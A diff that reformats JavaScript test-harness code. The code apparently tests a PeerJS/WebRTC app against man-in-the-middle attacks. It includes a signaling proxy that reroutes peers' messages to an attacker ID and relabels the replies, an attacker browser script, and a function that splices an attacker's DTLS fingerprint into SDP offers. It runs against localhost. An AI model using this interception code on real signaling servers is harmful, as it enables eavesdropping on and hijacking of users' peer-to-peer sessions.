@@ -57,7 +57,11 @@ export async function startSignalingProxy(targetUrl) {
       const route = (text) => {
         if (!isVictim()) return text;
         let msg;
-        try { msg = JSON.parse(text); } catch { return text; }
+        try {
+          msg = JSON.parse(text);
+        } catch {
+          return text;
+        }
         if (RELAYED.has(msg?.type) && msg.dst === state.attack.hostId) {
           msg.dst = state.attack.attackerId;
           state.rewrittenToAttacker++;
@@ -73,14 +77,22 @@ export async function startSignalingProxy(targetUrl) {
         const routed = route(text);
         if (!state.tap) return routed;
         let msg;
-        try { msg = JSON.parse(routed); } catch { return routed; }
+        try {
+          msg = JSON.parse(routed);
+        } catch {
+          return routed;
+        }
         const out = state.tap({ from: id, msg, sendUp: (m) => sendUp(JSON.stringify(m)) });
         return out === null ? null : JSON.stringify(out);
       };
       const toClient = (text) => {
         if (!isVictim()) return text;
         let msg;
-        try { msg = JSON.parse(text); } catch { return text; }
+        try {
+          msg = JSON.parse(text);
+        } catch {
+          return text;
+        }
         if (msg?.src === state.attack.attackerId) {
           msg.src = state.attack.hostId;
           state.relabelledFromAttacker++;
@@ -92,7 +104,9 @@ export async function startSignalingProxy(targetUrl) {
         const out = isBinary ? data : toServer(data.toString());
         if (out !== null) sendUp(out);
       });
-      upstream.on("open", () => { for (const m of pending.splice(0)) upstream.send(m); });
+      upstream.on("open", () => {
+        for (const m of pending.splice(0)) upstream.send(m);
+      });
       upstream.on("message", (data, isBinary) => {
         if (client.readyState === WebSocket.OPEN) client.send(isBinary ? data : toClient(data.toString()));
       });
@@ -115,10 +129,17 @@ export async function startSignalingProxy(targetUrl) {
     port,
     state,
     /** Routes every other peer's signaling for `hostId` to `attackerId`. */
-    attack(hostId, attackerId) { state.attack = { hostId, attackerId }; },
+    attack(hostId, attackerId) {
+      state.attack = { hostId, attackerId };
+    },
     /** Runs `tap` on every frame browsers send (see `state.tap`); null removes it. */
-    tap(fn) { state.tap = fn; },
-    honest() { state.attack = null; state.tap = null; },
+    tap(fn) {
+      state.tap = fn;
+    },
+    honest() {
+      state.attack = null;
+      state.tap = null;
+    },
     async stop() {
       for (const c of state.sockets) c.terminate();
       wss.close();
@@ -136,7 +157,15 @@ export function attackerScript({ port, attackerId, hostId }) {
   const a = (window.attack = { joinerOpen: false, hostOpen: false, fromJoiner: 0, fromHost: 0, log: [], closed: [] });
   // With `window.attackCertificate` (see attackerCertificateScript) every connection uses that one certificate.
   const certificates = window.attackCertificate ? { certificates: [window.attackCertificate] } : {};
-  const peer = new window.peerjs.Peer(attackerId, { host: "127.0.0.1", port, path: "/", key: "peerjs", secure: false, debug: 0, config: { iceServers: [], ...certificates } });
+  const peer = new window.peerjs.Peer(attackerId, {
+    host: "127.0.0.1",
+    port,
+    path: "/",
+    key: "peerjs",
+    secure: false,
+    debug: 0,
+    config: { iceServers: [], ...certificates },
+  });
   peer.on("open", () => (a.registered = true));
   peer.on("error", (e) => a.log.push(["error", String(e.type ?? e)]));
   peer.on("connection", (toJoiner) => {
@@ -190,7 +219,12 @@ export async function attackerCertificateScript() {
   a.close();
   b.close();
   if (!der) throw new Error("the browser did not report its certificate");
-  const digest = new Uint8Array(await crypto.subtle.digest("SHA-512", Uint8Array.from(atob(der), (c) => c.charCodeAt(0))));
+  const digest = new Uint8Array(
+    await crypto.subtle.digest(
+      "SHA-512",
+      Uint8Array.from(atob(der), (c) => c.charCodeAt(0)),
+    ),
+  );
   window.attackCertificate = cert;
   return `a=fingerprint:sha-512 ${[...digest].map((x) => x.toString(16).padStart(2, "0").toUpperCase()).join(":")}`;
 }
@@ -214,11 +248,13 @@ export function spliceFingerprints({ hostId, attackerId, attackerLine }) {
   const splice = (msg) => {
     const lines = real.get(counterpart(msg.dst));
     let first = true;
-    msg.payload.sdp.sdp = msg.payload.sdp.sdp.replace(FINGERPRINT_LINE, () => {
-      if (!first) return "";
-      first = false;
-      return `${lines.join("\r\n")}\r\n${attackerLine}`;
-    }).replace(/\r\n(?:\r\n)+/g, "\r\n");
+    msg.payload.sdp.sdp = msg.payload.sdp.sdp
+      .replace(FINGERPRINT_LINE, () => {
+        if (!first) return "";
+        first = false;
+        return `${lines.join("\r\n")}\r\n${attackerLine}`;
+      })
+      .replace(/\r\n(?:\r\n)+/g, "\r\n");
     stats.spliced++;
     stats.lines.push(msg.payload.sdp.sdp.match(FINGERPRINT_LINE));
     return msg;
